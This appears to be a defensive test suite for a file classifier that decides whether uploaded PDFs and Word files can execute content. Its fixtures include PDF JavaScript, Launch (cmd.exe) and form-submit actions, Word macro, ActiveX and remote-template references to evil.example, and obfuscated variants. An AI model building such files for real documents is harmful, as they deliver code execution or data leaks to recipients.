"""What a file is, and whether it acts."""

from __future__ import annotations

import time
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chalicelib.catalogue.files.kinds import EXTENSIONS, MOST_BYTES, can_act, kind_of
from chalicelib.catalogue.files.office import EXCEL, WORD
from tests.catalogue.papers import JPEG, PDF, PNG, archive, office, packed_pdf, pdf, relationship

ORDINARY = {
    "application/pdf": [PDF, pdf(b"/S/URI/URI(https://www.gov.cn) "), packed_pdf(b"<</Type/Catalog>>")],
    "image/png": [PNG],
    "image/jpeg": [JPEG],
    WORD: [
        office(),
        office(links=relationship("styles", "styles.xml")),
        office(links=relationship("hyperlink", "https://www.gov.cn", outside=True)),
    ],
    EXCEL: [office(EXCEL)],
}
FRAME = f"<R>{relationship('frame', 'https://evil.example', outside=True)}</R>"
MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
ACTIVE = {
    "application/pdf": [
        pdf(b"/S/JavaScript/JS(app.alert(1)) "),
        pdf(b"/S/#4aavaScript/JS(app.alert(1)) "),
        pdf(b"/S/Launch/F(cmd.exe) "),
        pdf(b"/Names<</EmbeddedFiles 9 0 R>> "),
        pdf(b"/Encrypt 5 0 R "),
        packed_pdf(b"<</S/JavaScript/JS(app.alert(1))>>"),
        packed_pdf(b"<</S/JavaScript/JS(app.alert(1))>>", b" /ObjStm"),
        pdf(b"/OpenAction<</S/SubmitForm/F(https://evil.example)>> "),
        pdf(b"/OpenAction<</S/ImportData/F(x.fdf)>> "),
        pdf(b"/OpenAction<</S/GoToE/F(//evil.example/x)>> "),
        pdf(b"/OpenAction<</S/Rendition/JS(app.alert(1))>> "),
        pdf(b"/AcroForm<</XFA 9 0 R>> "),
        packed_pdf(b"<</S/JavaScript/JS(app.alert(1))>>", b"/ObjStm" + b" " * 10_000),
        packed_pdf(b"<</S/JavaScript/JS(app.alert(1))>>", b"/ObjStm %obj\n"),
        packed_pdf(b"<</S/JavaScript/JS(app.alert(1))>>", b" 7 0 R/N 1/First 4"),
        packed_pdf(b" " * 5_000_000 + b"/JavaScript"),
        packed_pdf(b"x").replace(b"/FlateDecode", b"[/ASCIIHexDecode/FlateDecode]").replace(b"\r\n\x78", b"\r\nX"),
    ],
    WORD: [
        office(types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        office(types='<Default Extension="x" ContentType="application/vnd.ms-office.VBAPROJECT"/>'),
        office(word__embeddings__a="x"),
        office(word__activeX__activeX1="x"),
        office(types='<Default Extension="a" ContentType="vba&#80;roject"/>'),
        office(links=relationship("attachedTemplate", "https://evil.example/t.dotm", outside=True)),
        office(links=relationship("oleObject", "file:///x", outside=True)),
        office(links=relationship("attachedTemplate", "https://evil.example/hyperlink", outside=True)),
        office(links=relationship("attachedTemplate", "https://evil.example/t.dotm")),
        office(links='<Relationship Id="a>b" Type="x/frame" Target="https://evil.example" TargetMode="External"/>'),
        office(**{"word/_RELS/a.RELS": FRAME}),
        office(**{"word/_rels/a.rels": "\0".join(FRAME) + "\0"}),
        office(links=relationship("oleObject", "media/a.bin"), word__media__a="x"),
        office(links=relationship("package", "media/a.docx"), word__media__a="x"),
        office(links=relationship("aFChunk", "media/a.mht"), word__media__a="x"),
    ],
}


@pytest.mark.parametrize(("kind", "data"), [(kind, data) for kind, all_ in ORDINARY.items() for data in all_])
def test_ordinary_files_are_known_and_do_not_act(kind: str, data: bytes) -> None:
    assert kind in EXTENSIONS
    assert kind_of(data) == kind
    assert not can_act(data, kind)


@pytest.mark.parametrize(("kind", "data"), [(kind, data) for kind, all_ in ACTIVE.items() for data in all_])
def test_files_that_act(kind: str, data: bytes) -> None:
    assert kind_of(data) == kind
    assert can_act(data, kind)


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"hello",
        b"MZ\x90\x00",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,  # .doc and .xls of old
        PDF[:-7],
        PNG[:-3],
        b"<html></html>" + PDF,
        office()[:-20],
        b"x" + office(),
        archive({"a.txt": "b"}),
        archive({"[Content_Types].xml": "", "word/document.xml": ""}),
        office(main=MACRO_WORD),
        office(types=" " * 4_200_000),
        office(**{f"word/_rels/{number}.rels": f"<R>{' ' * 1_000_000}</R>" for number in range(5)}),
        office(**{"word/_rels/a.rels": '<!DOCTYPE R [<!ENTITY e "External">]><R/>'}),
        office(**{"word/_rels/a.rels": '<?xml version="1.0" encoding="UTF-7"?><R/>'}),
        office(**{"word/document.XML": "<document/>"}),
        office(types="\ud7ff").replace(b"PK\x05\x06", b"PK\x05\x05"),
    ],
)
def test_anything_else_is_of_no_kind(data: bytes) -> None:
    assert kind_of(data) is None


@settings(deadline=None, max_examples=200)
@given(st.sampled_from([PDF, PNG, office(), packed_pdf(b"x")]), st.integers(0, 2000), st.binary(max_size=6))
def test_a_damaged_file_is_judged_without_an_exception(data: bytes, at: int, noise: bytes) -> None:
    damaged = data[: at % len(data)] + noise + data[at % len(data) + len(noise) :]
    kind = kind_of(damaged)
    assert kind is None or can_act(damaged, kind) in (True, False)


SMALL_STREAM = b"/ObjStm/Filter stream\n" + zlib.compress(b"x")


@pytest.mark.parametrize(
    "filler", [b"#41", b"stream\n", b"/ObjStm/Filter stream\n", b"/First/Filter stream\n", SMALL_STREAM, b"<<", b"\0"]
)
def test_the_largest_file_is_judged_within_seconds(filler: bytes) -> None:
    large = pdf(filler * (MOST_BYTES // len(filler)))
    began = time.process_time()
    assert can_act(large, "application/pdf") in (True, False)
    assert time.process_time() - began < 6
